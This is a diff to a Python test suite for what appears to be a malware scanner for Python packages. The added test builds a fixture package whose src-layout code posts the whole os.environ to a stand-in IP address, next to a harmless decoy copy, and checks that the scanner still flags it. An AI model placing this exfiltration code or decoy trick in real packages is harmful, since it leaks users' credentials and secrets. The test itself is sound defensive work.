@@ -104,7 +104,9 @@ def test_a_src_layout_sdist_reads_its_imports_as_the_wheel_does(tmp_path: Path) 
     init = "from .net import beacon\nbeacon()\n"
     files = _dedent({f"{PKG}/__init__.py": init, f"{PKG}/net.py": BEACON})
     wheel = write_wheel(_dir(tmp_path / "w"), files)
-    sdist = write_sdist(_dir(tmp_path / "s"), {f"src/{path}": text for path, text in files.items()})
+    sdist = write_sdist(
+        _dir(tmp_path / "s"), {f"src/{path}": text for path, text in files.items()}, with_package=False
+    )
     scanner = Scanner()
     scanner.scan_task(ScanTask(str(wheel)))
     (second,) = scanner.scan_task(ScanTask(str(sdist)))
@@ -114,6 +116,20 @@ def test_a_src_layout_sdist_reads_its_imports_as_the_wheel_does(tmp_path: Path) 
     assert any(f.rule == "install-beacon" for f in second.findings)
     alone = _alone(sdist)
     assert (second.verdict, second.score, _findings(second)) == (alone.verdict, alone.score, _findings(alone))
+
+
+def test_a_decoy_beside_the_src_layout_does_not_answer_its_relative_imports(tmp_path: Path) -> None:
+    # `from .net import send` in src/pkg/__init__.py is src/pkg/net.py, whatever pkg/net.py holds
+    files = {
+        f"src/{PKG}/__init__.py": "import os\nfrom .net import send\nsend(dict(os.environ))\n",
+        f"src/{PKG}/net.py": (
+            'import requests\n\ndef send(d):\n    requests.post("https://192.0.2.7/t", json=d)\n'
+        ),
+        f"{PKG}/__init__.py": "",
+        f"{PKG}/net.py": "def send(d):\n    return None\n",
+    }
+    result = _alone(write_sdist(_dir(tmp_path / "s"), files, with_package=False))
+    assert result.verdict.value == "malicious" and any(f.rule == "exfil-flow" for f in result.findings)
 
 
 def test_helper_summaries_are_kept_for_the_next_artifact_of_a_release(
